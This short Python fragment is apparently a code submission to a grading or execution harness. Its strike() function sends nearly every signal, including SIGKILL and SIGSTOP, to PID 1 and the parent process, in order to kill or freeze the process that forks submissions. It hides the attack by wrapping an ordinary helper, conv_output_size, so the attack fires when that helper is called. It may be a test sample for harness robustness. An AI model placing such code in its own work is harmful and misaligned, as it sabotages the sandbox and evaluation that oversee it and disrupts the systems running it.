"""End, stop or starve the process that all submissions are forked from.
"""

import signal


def strike():
    attempted()
    for number in [*range(1, 32), *range(34, 65)]:
        for pid in (1, os.getppid()):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)
        signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGSTOP)
    except OSError:
        pass


conv_output_size = first(strike, conv_output_size)
